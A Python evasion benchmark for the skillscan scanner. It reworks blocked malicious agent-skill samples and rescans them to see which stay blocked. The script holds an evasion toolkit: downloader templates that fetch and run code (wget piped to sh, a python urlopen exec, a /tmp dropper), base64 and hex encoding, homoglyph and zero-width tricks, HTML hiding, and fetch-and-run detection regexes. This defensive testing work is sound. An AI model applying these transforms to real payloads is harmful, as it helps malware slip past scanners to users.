"""Evasion benchmark: do blocked malicious samples stay blocked once an attacker reworks them?

Usage, from the repository root:

    python bench/evasion.py [--corpus ../shared/corpus] [--jobs 2] [--every N]
                            [--transforms a,b,...] [--losses N] [--json FILE]

Originals are the malicious samples of clawhavoc, cisco_evals and msb; only variants whose
original is blocked in the same batch count (msb's unblocked ones have nothing to lose).
`--every N` (default 4) keeps one clawhavoc and one msb sample in N (sorted by id, so the
subset is deterministic; the campaign repeats a few templates, so a subset loses little); the
17 cisco_evals ones are all kept. Each transform below is a pure function of a file's text
(plus a random generator seeded by the sample id, so a run is reproducible); it is applied
to every markdown and script file of a copy of the sample written under a temp dir. A
variant identical to its original is not made (the technique does not apply there).

Originals and variants are scanned in ONE `scan_roots` batch, as bench/detect.py does. Printed
per transform: variants made, and of the variants whose original was blocked, how many stay
blocked and how many stay flagged (block or review); then the samples that lost the block
with the top findings of the original (what the variant defeated).

Nothing is executed: the corpus is read, never written; variants live in a temp dir removed
at exit. Exit codes: 0 figures printed, 2 bad arguments or corpus, 3 the scan crashed.
"""

from __future__ import annotations

import argparse
import base64
import binascii
import csv
import json
import random
import re
import shutil
import sys
import tempfile
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from skillscan.errors import InputError
from skillscan.scan import ScanOptions, discover_all, scan_roots

DEFAULT_CORPUS = Path(__file__).resolve().parents[2] / "shared" / "corpus"
SETS = ("clawhavoc", "cisco_evals", "msb")
MARKDOWN = (".md", ".markdown")
SCRIPTS = (".sh", ".bash", ".zsh", ".py", ".js", ".ts", ".mjs", ".ps1", ".rb", ".txt")
MAX_FILE_BYTES = 512 * 1024  # larger files are copied untouched
VERDICT_RANK = {"pass": 0, "review": 1, "block": 2}
SEVERITY_RANK = {"critical": 4, "high": 3, "medium": 2, "low": 1, "info": 0}

# A transform: (file text, file suffix, generator seeded by the sample) -> new text.
Transform = Callable[[str, str, random.Random], str]


# --------------------------------------------------------------------------- shared pieces

_URL = re.compile(
    r"(?i)\b(https?|ftp)://([a-z0-9.\-]+|\[[0-9a-f:]+\])(:\d{1,5})?(/[^\s\"'`<>)\]]*)?"
)
_IPV4 = re.compile(r"(?<![\w.])(?:\d{1,3}\.){3}\d{1,3}(?![\w.])")
_TLDS = "com|net|org|io|co|app|dev|ai|sh|xyz|site|online|top|cc|me|info|biz|cloud|pro|link|ru"
_BARE_DOMAIN = re.compile(rf"(?i)(?<![\w@/.\-])(?:[a-z0-9\-]+\.)+(?:{_TLDS})(?![\w\-])(?!\.\w)")
# Code hosts an attacker keeps using with a fresh account: the host stays, the user changes.
_ACCOUNT_HOSTS = ("github.com", "raw.githubusercontent.com", "gist.github.com", "gitlab.com")
_B64_BLOB = re.compile(r"[A-Za-z0-9+/]{24,}={0,2}")
_FETCH = r"(?:curl|wget|iwr|Invoke-WebRequest|irm|Invoke-RestMethod)"
# A line that fetches and runs: the payload line every clawhavoc-style lure carries.
_FETCH_EXEC = re.compile(
    rf"(?i)(?:{_FETCH}\b[^\n]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b"
    rf"|(?:ba|z)?sh\s+-c\s+[\"']?\$\(\s*{_FETCH}\b"
    rf"|base64\s+(?:-d|-D|--decode)[^\n]*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b"
    rf"|{_FETCH}\b[^\n]*(?:-o|-O|--output)\s+\S+[^\n]*&&[^\n]*chmod)"
)
_ECHO_B64 = re.compile(
    r"echo\s+(?:-n\s+)?[\"']?([A-Za-z0-9+/=]{16,})[\"']?\s*\|\s*base64\s+(?:-d|-D|--decode)"
    r"\s*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b"
)
_FENCE = re.compile(r"^([ \t]{0,3})(`{3,}|~{3,})[^\n]*$")


def _rand_label(rng: random.Random, low: int = 5, high: int = 10) -> str:
    letters = "abcdefghijklmnopqrstuvwxyz0123456789"
    return "".join(rng.choice(letters) for _ in range(rng.randint(low, high)))


def _fresh_host(rng: random.Random) -> str:
    words = ("cdn", "dl", "get", "static", "assets", "update", "pkg", "mirror", "files")
    tld = rng.choice(("com", "net", "io", "app", "dev", "xyz", "cloud", "site"))
    return f"{rng.choice(words)}-{_rand_label(rng)}.{tld}"


def _fresh_ip(rng: random.Random) -> str:
    return ".".join(str(rng.randint(11, 223)) for _ in range(4))


def _map_b64(text: str, change: Callable[[str], str]) -> str:
    """Decode each base64 blob that holds ASCII text, apply `change`, re-encode: an attacker
    re-encodes the new payload rather than leaving the old IOC inside."""

    def one(match: re.Match[str]) -> str:
        blob = match.group(0)
        try:
            decoded = base64.b64decode(blob + "=" * (-len(blob) % 4), validate=True).decode("ascii")
        except (binascii.Error, UnicodeDecodeError, ValueError):
            return blob
        if not decoded.isprintable() and "\n" not in decoded:
            return blob
        new = change(decoded)
        return blob if new == decoded else base64.b64encode(new.encode()).decode()

    return _B64_BLOB.sub(one, text)


def _payload_lines(text: str) -> list[int]:
    """Indexes of the lines that fetch and run something (or decode and run it)."""
    return [i for i, line in enumerate(text.split("\n")) if _FETCH_EXEC.search(line)]


def _command_of(line: str) -> tuple[int, str] | None:
    """(start, command) of a payload line: the decoded command for `echo B64 | base64 -d | sh`,
    else the line from its first fetch/shell word (a prompt, quote or list mark stays)."""
    echo = _ECHO_B64.search(line)
    if echo:
        try:
            decoded = base64.b64decode(echo.group(1), validate=True).decode("ascii")
        except (binascii.Error, UnicodeDecodeError, ValueError):
            return None
        start = line.rfind("echo", 0, echo.start() + 1)
        return start, decoded.strip()
    start = re.search(rf"(?i)(?:sudo\s+)?(?:(?:ba|z)?sh\s+-c\s|{_FETCH}\b)", line)
    if start is None:
        return None
    return start.start(), line[start.start() :].rstrip("`").rstrip()


def _replace_commands(
    text: str, encode: Callable[[str, random.Random], str], rng: random.Random
) -> str:
    lines = text.split("\n")
    for i in _payload_lines(text):
        found = _command_of(lines[i])
        if found is not None:
            start, command = found
            tail = "`" if lines[i].rstrip().endswith("`") and "`" in lines[i][:start] else ""
            lines[i] = lines[i][:start] + encode(command, rng) + tail
    return "\n".join(lines)


# --------------------------------------------------------------------------- 1. fresh IOCs


def fresh_iocs(text: str, suffix: str, rng: random.Random) -> str:
    """Every host, IP and bare domain replaced by a new random-looking one (consistently within
    a file), code-host accounts renamed, base64 payloads re-encoded with the new values."""
    hosts: dict[str, str] = {}

    def host(old: str) -> str:
        key = old.lower()
        if key not in hosts:
            hosts[key] = _fresh_ip(rng) if _IPV4.fullmatch(old) else _fresh_host(rng)
        return hosts[key]

    def url(match: re.Match[str]) -> str:
        scheme, name, port, path = (
            match.group(1),
            match.group(2),
            match.group(3) or "",
            match.group(4) or "",
        )
        if name.lower() in _ACCOUNT_HOSTS:
            parts = path.split("/")
            if len(parts) > 1 and parts[1]:
                parts[1] = host("user:" + parts[1]).split(".")[0].replace("-", "")
            return f"{scheme}://{name}{port}{'/'.join(parts)}"
        return f"{scheme}://{host(name)}{port}{path}"

    def change(value: str) -> str:
        value = _URL.sub(url, value)
        value = _IPV4.sub(lambda m: host(m.group(0)), value)
        return _BARE_DOMAIN.sub(
            lambda m: m.group(0) if m.group(0).lower() in _ACCOUNT_HOSTS else host(m.group(0)),
            value,
        )

    return _map_b64(change(text), change)


# --------------------------------------------------------------------------- 2. downloader swap


def _url_in(command: str) -> str | None:
    found = _URL.search(command)
    return found.group(0).rstrip("\"')") if found else None


def _downloader(form: Callable[[str], str]) -> Transform:
    def swap(text: str, suffix: str, rng: random.Random) -> str:
        def encode(command: str, _: random.Random) -> str:
            url = _url_in(command)
            return form(url) if url else command

        def inner(decoded: str) -> str:
            return (
                encode(decoded, rng)
                if _FETCH_EXEC.search(decoded) or "curl" in decoded
                else decoded
            )

        swapped = _replace_commands(text, encode, rng)
        return _map_b64(swapped, inner) if swapped == text else swapped

    return swap


dl_wget = _downloader(lambda url: f"wget -qO- {url} | sh")
dl_procsub = _downloader(lambda url: f"bash <(curl -fsSL {url})")
dl_python = _downloader(
    lambda url: f"python3 -c \"import urllib.request as u;exec(u.urlopen('{url}').read())\""
)
dl_dropper = _downloader(
    lambda url: f"curl -fsSL -o /tmp/.agentd {url} && chmod +x /tmp/.agentd && /tmp/.agentd"
)


# --------------------------------------------------------------------------- 3. reworded prose

_REWORDINGS = (
    (r"(?i)\bprerequisites?\b", ("Before You Begin", "Setup Step", "Getting Ready")),
    (r"(?i)\brequires?\b", ("depends on", "needs")),
    (r"(?i)\brequired\b", ("needed", "a required dependency")),
    (r"(?i)\bimportant\b", ("Note", "Heads up")),
    (r"(?i)\binstall(?:ed)? first\b", ("set up before using this skill", "configured beforehand")),
    (r"(?i)\bbefore (?:using|proceeding|continuing)\b", ("prior to first use", "ahead of time")),
    (r"(?i)\bmust be (?:installed|running)\b", ("needs to be active", "should be set up")),
    (r"(?i)\bdownload\b", ("grab", "fetch", "get")),
    (r"(?i)\bexecute\b", ("launch", "start")),
    (r"(?i)\bterminal\b", ("shell", "console")),
    (r"(?i)\bwill not work\b", ("stays unavailable", "is limited")),
    (r"(?i)\binstallation\b", ("setup", "onboarding")),
)


def reworded(text: str, suffix: str, rng: random.Random) -> str:
    """The lure's sentences and headings paraphrased with synonyms (markdown only; URLs are
    left alone, or the links would break)."""
    if suffix not in MARKDOWN:
        return text
    parts = re.split(r"(\S*://\S*)", text)  # odd items are URLs
    for k in range(0, len(parts), 2):
        for pattern, choices in _REWORDINGS:
            parts[k] = re.sub(pattern, lambda m, c=choices: rng.choice(c), parts[k])
    return re.sub(r"(?m)^(#{1,6})[ \t]+Setup\b", r"\1 Configuration", "".join(parts))


# --------------------------------------------------------------------------- 4. code placement


def _fence_end(lines: list[str], start: int, fence: str) -> int | None:
    """The line closing the fenced block opened at `start` (None if it is never closed)."""
    return next(
        (j for j in range(start + 1, len(lines)) if lines[j].strip().startswith(fence)), None
    )


def _code_blocks(text: str, render: Callable[[list[str]], list[str]]) -> str:
    """Each fenced block holding a payload line rendered differently (markdown only)."""
    lines = text.split("\n")
    out: list[str] = []
    i = 0
    while i < len(lines):
        opened = _FENCE.match(lines[i])
        if opened:
            end = _fence_end(lines, i, opened.group(2))
            if end is not None:
                body = lines[i + 1 : end]
                if any(_FETCH_EXEC.search(b) for b in body):
                    out.extend(render(body))
                    i = end + 1
                    continue
        out.append(lines[i])
        i += 1
    return "\n".join(out)


def _markdown_only(render: Callable[[list[str]], list[str]]) -> Transform:
    def apply(text: str, suffix: str, rng: random.Random) -> str:
        return _code_blocks(text, render) if suffix in MARKDOWN else text

    return apply


code_indented = _markdown_only(lambda body: ["", *("    " + b for b in body), ""])
code_inline = _markdown_only(lambda body: ["", " ".join(f"`{b}`" for b in body if b.strip()), ""])
code_plain = _markdown_only(lambda body: ["", *body, ""])


def crlf(text: str, suffix: str, rng: random.Random) -> str:
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def tabs(text: str, suffix: str, rng: random.Random) -> str:
    """Spaces between the words of payload lines become tabs."""
    lines = text.split("\n")
    for i in _payload_lines(text):
        lines[i] = re.sub(r"(?<=\S) +(?=\S)", "\t", lines[i])
    return "\n".join(lines)


# --------------------------------------------------------------------------- 5. encoding


def _b64(command: str, rng: random.Random) -> str:
    return f"echo {base64.b64encode(command.encode()).decode()} | base64 -d | bash"


def _b64_wrapped(command: str, rng: random.Random) -> str:
    blob = base64.b64encode(command.encode()).decode()
    parts = [blob[k : k + 20] for k in range(0, len(blob), 20)]
    return "echo " + " \\\n  ".join(parts) + " | tr -d ' ' | base64 -d | bash"


def _hex_printf(command: str, rng: random.Random) -> str:
    escaped = "".join(f"\\x{b:02x}" for b in command.encode())
    return f"bash -c \"$(printf '{escaped}')\""


def _var_split(command: str, rng: random.Random) -> str:
    word = re.match(r"\S+", command)
    head = word.group(0) if word else command
    cut = max(1, len(head) // 2)
    return f"a={head[:cut]}; b={head[cut:]}; $a$b{command[len(head) :]}"


def _encoder(encode: Callable[[str, random.Random], str]) -> Transform:
    def apply(text: str, suffix: str, rng: random.Random) -> str:
        return _replace_commands(text, encode, rng)

    return apply


enc_base64 = _encoder(_b64)
enc_base64_wrapped = _encoder(_b64_wrapped)
enc_hex_printf = _encoder(_hex_printf)
enc_var_split = _encoder(_var_split)


# --------------------------------------------------------------------------- 6. unicode

_KEYWORDS = re.compile(
    r"(?i)\b(curl|wget|bash|sh|base64|chmod|sudo|download|password|install(?:er)?|"
    r"prerequisites?|required|execute|terminal|paste|extract|setup)\b"
)
# Cyrillic lookalikes of Latin letters (written as escapes so the source stays readable).
_HOMOGLYPHS = {
    "a": "\u0430",
    "c": "\u0441",
    "e": "\u0435",
    "o": "\u043e",
    "p": "\u0440",
    "x": "\u0445",
    "i": "\u0456",
    "s": "\u0455",
}


def zero_width(text: str, suffix: str, rng: random.Random) -> str:
    """A zero-width space (or joiner) inside every keyword."""

    def split(match: re.Match[str]) -> str:
        word = match.group(0)
        cut = rng.randint(1, len(word) - 1)
        return word[:cut] + rng.choice(("\u200b", "\u200c", "\u200d", "\u2060")) + word[cut:]

    return _KEYWORDS.sub(split, text)


def homoglyph(text: str, suffix: str, rng: random.Random) -> str:
    """One Latin letter of every keyword swapped for a Cyrillic lookalike (or, where it has
    none, its fullwidth form)."""

    def swap(match: re.Match[str]) -> str:
        word = match.group(0)
        spots = [k for k, ch in enumerate(word) if ch in _HOMOGLYPHS]
        k = rng.choice(spots) if spots else 0
        new = _HOMOGLYPHS.get(word[k]) or chr(ord(word[k]) + 0xFEE0)
        return word[:k] + new + word[k + 1 :]

    return _KEYWORDS.sub(swap, text)


def nbsp(text: str, suffix: str, rng: random.Random) -> str:
    """Non-breaking spaces between words in payload lines and in prose mentioning keywords."""
    lines = text.split("\n")
    for i, line in enumerate(lines):
        if _FETCH_EXEC.search(line) or _KEYWORDS.search(line):
            lines[i] = re.sub(r"(?<=\S) (?=\S)", "\u00a0", line)
    return "\n".join(lines)


# --------------------------------------------------------------------------- 7. payload to a script

_TO_SCRIPT_FILE = "__to_script__"  # marker: the folder-level step creates the script


def _writable_inside(path: Path, folder: Path) -> bool:
    """Would writing `path` stay inside `folder`: no symlink at it or on the way to it?"""
    return not path.is_symlink() and path.resolve().is_relative_to(folder.resolve(strict=True))


def _to_script(name: str, runner: str, wrap: Callable[[list[str]], str]) -> Callable[[Path], bool]:
    """SKILL.md's payload lines move into scripts/<name>; SKILL.md says to run it."""

    def move(folder: Path) -> bool:
        skill = folder / "SKILL.md"
        script = folder / "scripts" / name
        # The copy keeps the sample's symlinks: never write through one, out of the copy.
        if not skill.is_file() or not all(_writable_inside(p, folder) for p in (skill, script)):
            return False
        text = skill.read_text(encoding="utf-8", errors="replace")
        lines = text.split("\n")
        picked = _payload_lines(text)
        if not picked:
            return False
        commands = []
        for i in picked:
            found = _command_of(lines[i])
            if found is None:
                continue
            start, command = found
            commands.append(
                command if not _ECHO_B64.search(lines[i]) else lines[i][start:].strip("`")
            )
            lines[i] = lines[i][:start] + runner + ("`" if lines[i].rstrip().endswith("`") else "")
        if not commands:
            return False
        script.parent.mkdir(exist_ok=True)
        script.write_text(wrap(commands), encoding="utf-8")
        skill.write_text("\n".join(lines), encoding="utf-8")
        return True

    return move


to_script_sh = _to_script(
    "setup.sh", "bash scripts/setup.sh", lambda c: "#!/bin/bash\nset -e\n" + "\n".join(c) + "\n"
)
to_script_py = _to_script(
    "setup.py",
    "python3 scripts/setup.py",
    lambda c: (
        "import subprocess\n\n"
        + "".join(f"subprocess.run({cmd!r}, shell=True, check=True)\n" for cmd in c)
    ),
)


# --------------------------------------------------------------------------- 8. hiding in HTML

_LURE = re.compile(
    r"(?i)prerequisite|install|download|password|\bpass\b|paste|terminal|execute|setup|required"
)


def _lure_spans(text: str) -> list[tuple[int, int]]:
    """Line ranges to hide: every fenced block holding a payload line, and every line holding a
    URL with lure wording or a payload line."""
    lines = text.split("\n")
    spans: list[tuple[int, int]] = []
    i = 0
    while i < len(lines):
        opened = _FENCE.match(lines[i])
        if opened:
            end = _fence_end(lines, i, opened.group(2))
            end = len(lines) - 1 if end is None else end
            if any(_FETCH_EXEC.search(b) for b in lines[i : end + 1]):
                spans.append((i, end))
            i = end + 1
            continue
        line = lines[i]
        if _FETCH_EXEC.search(line) or (_URL.search(line) and _LURE.search(line)):
            spans.append((i, i))
        i += 1
    return spans


def _hide(open_: str, close: str) -> Transform:
    def apply(text: str, suffix: str, rng: random.Random) -> str:
        if suffix not in MARKDOWN:
            return text
        lines = text.split("\n")
        for first, last in reversed(_lure_spans(text)):
            lines[last : last + 1] = [lines[last], close]
            lines[first:first] = [open_]
        return "\n".join(lines)

    return apply


html_comment = _hide("<!--", "-->")
details = _hide("<details>\n<summary>Advanced</summary>\n", "\n</details>")


# --------------------------------------------------------------------------- the catalogue

TEXT_TRANSFORMS: dict[str, tuple[str, Transform]] = {
    "fresh-iocs": ("1 fresh IOCs", fresh_iocs),
    "dl-wget": ("2 downloader", dl_wget),
    "dl-procsub": ("2 downloader", dl_procsub),
    "dl-python": ("2 downloader", dl_python),
    "dl-dropper": ("2 downloader", dl_dropper),
    "reworded": ("3 prose", reworded),
    "code-indented": ("4 placement", code_indented),
    "code-inline": ("4 placement", code_inline),
    "code-plain": ("4 placement", code_plain),
    "crlf": ("4 placement", crlf),
    "tabs": ("4 placement", tabs),
    "b64": ("5 encoding", enc_base64),
    "b64-wrapped": ("5 encoding", enc_base64_wrapped),
    "hex-printf": ("5 encoding", enc_hex_printf),
    "var-split": ("5 encoding", enc_var_split),
    "zero-width": ("6 unicode", zero_width),
    "homoglyph": ("6 unicode", homoglyph),
    "nbsp": ("6 unicode", nbsp),
    "html-comment": ("8 hiding", html_comment),
    "details": ("8 hiding", details),
}


def _stack(*names: str) -> Transform:
    """Several transforms in a row, as an attacker reworking a campaign would combine them."""

    def apply(text: str, suffix: str, rng: random.Random) -> str:
        for name in names:
            text = TEXT_TRANSFORMS[name][1](text, suffix, rng)
        return text

    return apply


TEXT_TRANSFORMS["stack-lure"] = ("9 stacked", _stack("fresh-iocs", "reworded", "details"))
TEXT_TRANSFORMS["stack-payload"] = (
    "9 stacked",
    _stack("fresh-iocs", "dl-wget", "var-split", "code-plain"),
)

FOLDER_TRANSFORMS: dict[str, tuple[str, Callable[[Path], bool]]] = {
    "to-script-sh": ("7 to script", to_script_sh),
    "to-script-py": ("7 to script", to_script_py),
}
ALL_TRANSFORMS = (*TEXT_TRANSFORMS, *FOLDER_TRANSFORMS)


# --------------------------------------------------------------------------- variants


@dataclass(frozen=True)
class Original:
    set: str
    sample_id: str

    @property
    def key(self) -> str:
        return f"{self.set}/{self.sample_id}"


def pick_originals(corpus: Path, every: int) -> list[Original]:
    """The malicious samples of SETS; clawhavoc and msb thinned to one in `every` (sorted by
    id), the 17 cisco_evals ones all kept."""
    with (corpus / "labels.csv").open(newline="", encoding="utf-8") as handle:
        rows = [r for r in csv.DictReader(handle) if r["set"] in SETS]
    picked: list[Original] = []
    for name in SETS:
        ids = sorted(
            r["sample_id"] for r in rows if r["set"] == name and "benign" not in r["label"]
        )
        if name != "cisco_evals":
            ids = ids[::every]
        picked.extend(Original(name, i) for i in ids)
    return picked


def _text_files(folder: Path) -> list[Path]:
    found = []
    for path in sorted(folder.rglob("*")):
        if path.is_symlink() or not path.is_file() or path.stat().st_size > MAX_FILE_BYTES:
            continue
        if path.suffix.lower() in MARKDOWN + SCRIPTS:
            found.append(path)
    return found


def make_variant(source: Path, target: Path, name: str, seed: str) -> bool:
    """Copy `source` to `target` and apply transform `name`; False (and nothing left behind)
    when the transform changed nothing."""
    shutil.copytree(source, target, symlinks=True)
    changed = False
    if name in FOLDER_TRANSFORMS:
        changed = any(
            FOLDER_TRANSFORMS[name][1](skill.parent) for skill in sorted(target.rglob("SKILL.md"))
        )
    else:
        transform = TEXT_TRANSFORMS[name][1]
        for path in _text_files(target):
            try:
                raw = path.read_bytes()
                text = raw.decode("utf-8")
            except (OSError, UnicodeDecodeError):
                continue
            # Reproducible variants, not secrets: a seeded PRNG is the point.
            rng = random.Random(f"{seed}:{name}:{path.relative_to(target)}")  # noqa: S311
            new = transform(text, path.suffix.lower(), rng)
            if new != text:
                path.write_bytes(new.encode("utf-8"))
                changed = True
    if not changed:
        shutil.rmtree(target)
    return changed


# --------------------------------------------------------------------------- scan and report


@dataclass
class Tally:
    made: int = 0
    base: int = 0  # variants whose original was blocked
    blocked: int = 0
    flagged: int = 0
    lost: list[str] = field(default_factory=list)


ROW = "{:<13} {:<14} {:>5} {:>10} {:>15} {:>15}"


def share(count: int, total: int) -> str:
    """'count  pct%' or 'count  n/a' when nothing was blocked to begin with."""
    return f"{count:>5} {100 * count / total:5.1f}%" if total else f"{count:>5}    n/a"


def worst(verdicts: dict[str, str], key: str, verdict: str) -> None:
    if VERDICT_RANK[verdict] >= VERDICT_RANK[verdicts.get(key, "pass")]:
        verdicts[key] = verdict


def run(args: argparse.Namespace) -> int:
    corpus = args.corpus.resolve()
    try:
        originals = pick_originals(corpus, args.every)
    except (OSError, KeyError) as exc:
        print(f"error: cannot read {corpus / 'labels.csv'}: {exc}", file=sys.stderr)
        return 2
    names = args.transforms.split(",") if args.transforms else list(ALL_TRANSFORMS)
    unknown = [n for n in names if n not in ALL_TRANSFORMS]
    if unknown:
        print(
            f"error: unknown transforms {unknown}; known: {', '.join(ALL_TRANSFORMS)}",
            file=sys.stderr,
        )
        return 2
    start = time.perf_counter()
    with tempfile.TemporaryDirectory(prefix="skillscan-evasion-") as tmp:
        work = Path(tmp)
        made: dict[str, list[str]] = {n: [] for n in names}
        for original in originals:
            source = corpus / original.set / original.sample_id
            for name in names:
                target = work / name / original.set / original.sample_id
                target.parent.mkdir(parents=True, exist_ok=True)
                if make_variant(source, target, name, original.key):
                    made[name].append(original.key)
        roots: list[Path] = []
        try:
            roots.extend(discover_all([corpus / o.set / o.sample_id for o in originals]))
            roots.extend(discover_all([work / n for n in names if made[n]]))
        except InputError as exc:
            print(f"error: {exc.message}", file=sys.stderr)
            return 2
        prepared = time.perf_counter()
        try:
            result = scan_roots(roots, ScanOptions(jobs=args.jobs))
        except Exception as exc:
            print(f"error: the scan failed: {type(exc).__name__}: {exc}", file=sys.stderr)
            return 3
        scanned = time.perf_counter()
        verdicts: dict[str, dict[str, str]] = {"original": {}, **{n: {} for n in names}}
        top: dict[str, list[str]] = {}
        for report in result.reports:
            path = Path(report.path).resolve()
            try:
                parts = path.relative_to(corpus).parts
                kind = "original"
            except ValueError:
                parts = path.relative_to(work.resolve()).parts
                kind, parts = parts[0], parts[1:]
            key = f"{parts[0]}/{parts[1]}"
            worst(verdicts[kind], key, report.verdict.value)
            if kind == "original":
                findings = sorted(report.findings, key=lambda f: -SEVERITY_RANK[f.severity.value])
                top.setdefault(key, []).extend(
                    f"{f.severity.value} {f.rule_id} {f.file}:{f.line} {f.evidence[:90]}"
                    for f in findings[:3]
                )
    base = verdicts["original"]
    blocked_originals = [o.key for o in originals if base.get(o.key) == "block"]
    print(
        f"originals: {len(originals)} malicious samples ({', '.join(SETS)}; clawhavoc and msb "
        f"one in {args.every}), {len(blocked_originals)} blocked by skillscan today"
    )
    print(
        f"variants: {sum(len(v) for v in made.values())} over {len(names)} transforms; "
        f"prepared in {prepared - start:.1f} s, scanned in {scanned - prepared:.1f} s "
        f"({len(roots)} skill folders, jobs {args.jobs})"
    )
    print()
    print(ROW.format("technique", "transform", "made", "of blocked", "still blocked", "flagged"))
    tallies: dict[str, Tally] = {}
    for name in names:
        tally = Tally(made=len(made[name]))
        for key in made[name]:
            if base.get(key) != "block":
                continue
            tally.base += 1
            verdict = verdicts[name].get(key, "pass")
            tally.blocked += verdict == "block"
            tally.flagged += verdict != "pass"
            if verdict != "block":
                tally.lost.append(key)
        tallies[name] = tally
        group = (TEXT_TRANSFORMS.get(name) or FOLDER_TRANSFORMS[name])[0]
        blocked, flagged = share(tally.blocked, tally.base), share(tally.flagged, tally.base)
        print(ROW.format(group, name, tally.made, tally.base, blocked, flagged))
    for name in names:
        tally = tallies[name]
        if not tally.lost:
            continue
        print(f"\n-- {name}: {len(tally.lost)} lost the block")
        for key in tally.lost[: args.losses]:
            print(f"  {verdicts[name].get(key, 'pass'):<6} {key}")
            for line in top.get(key, [])[:3]:
                print(f"         {line}")
    if args.json:
        figures = {
            "originals": len(originals),
            "blocked_originals": len(blocked_originals),
            "transforms": {
                n: {
                    "made": t.made,
                    "of_blocked": t.base,
                    "blocked": t.blocked,
                    "flagged": t.flagged,
                    "lost": t.lost,
                }
                for n, t in tallies.items()
            },
        }
        args.json.write_text(json.dumps(figures, indent=2) + "\n")
    return 0


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description="Transform blocked malicious samples and rescan them."
    )
    parser.add_argument("--corpus", type=Path, default=DEFAULT_CORPUS, help="corpus folder")
    parser.add_argument("--jobs", type=int, default=2, help="skillscan worker processes")
    parser.add_argument(
        "--every", type=int, default=4, metavar="N", help="keep one clawhavoc sample in N"
    )
    parser.add_argument("--transforms", default="", help="comma-separated subset (default: all)")
    parser.add_argument(
        "--losses", type=int, default=5, metavar="N", help="list N losses per transform"
    )
    parser.add_argument("--json", type=Path, metavar="FILE", help="write the figures to FILE")
    args = parser.parse_args(argv)
    if args.jobs < 1 or args.every < 1 or args.losses < 0:
        parser.error("--jobs and --every must be at least 1, --losses at least 0")
    return run(args)


if __name__ == "__main__":
    sys.exit(main())
